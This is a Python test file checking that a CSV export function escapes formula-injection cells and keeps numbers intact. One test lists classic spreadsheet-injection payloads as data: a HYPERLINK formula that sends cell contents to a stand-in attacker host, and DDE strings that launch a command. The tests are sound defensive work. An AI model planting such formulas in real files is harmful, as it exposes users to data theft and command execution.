"""The shared spreadsheet CSV: formula-like cells neutralised (OWASP), numbers kept, imports restored."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from api import csv_export

TRIGGERS = "=+-@\t\r"
cells = st.one_of(
    st.text(),
    st.builds(lambda start, rest: start + rest, st.sampled_from([*TRIGGERS, "'="]), st.text()),
    st.decimals(allow_nan=False, allow_infinity=False).map(str),
    st.floats(allow_nan=False, allow_infinity=False).map(repr),
)


def read(text: str) -> list[list[str]]:
    assert text.startswith(csv_export.BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(csv_export.BOM), newline="")))


@given(st.lists(st.lists(cells, min_size=1, max_size=5), min_size=1, max_size=5))
def test_no_written_cell_starts_a_formula_and_every_cell_reads_back(rows: list[list[str]]) -> None:
    width = max(len(row) for row in rows)
    rows = [row + [""] * (width - len(row)) for row in rows]
    written = read(csv_export.render(["列"] * width, rows))
    assert len(written) == len(rows) + 1
    for original, row in zip(rows, written[1:], strict=True):
        for value, text in zip(original, row, strict=True):
            assert not text.startswith(tuple(TRIGGERS)) or csv_export.NUMBER.fullmatch(text)
            assert csv_export.restore(text) == value


FINITE = {"allow_nan": False, "allow_infinity": False}


@given(st.one_of(st.integers(), st.decimals(**FINITE), st.floats(**FINITE)))
def test_a_number_is_written_as_it_is(number: object) -> None:
    assert csv_export.cell(number) == str(number)


def test_the_classic_payloads_are_quoted() -> None:
    payloads = [
        '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-1\n=1+1",
    ]
    [_, row] = read(csv_export.render(["x"] * len(payloads), [payloads]))
    assert row == ["'" + p for p in payloads]
    assert csv_export.cell("-12.50") == "-12.50" and csv_export.cell("+3") == "+3" and csv_export.cell("1e5") == "1e5"
    assert csv_export.cell("-٣") == "'-٣"  # only ASCII digits make a number
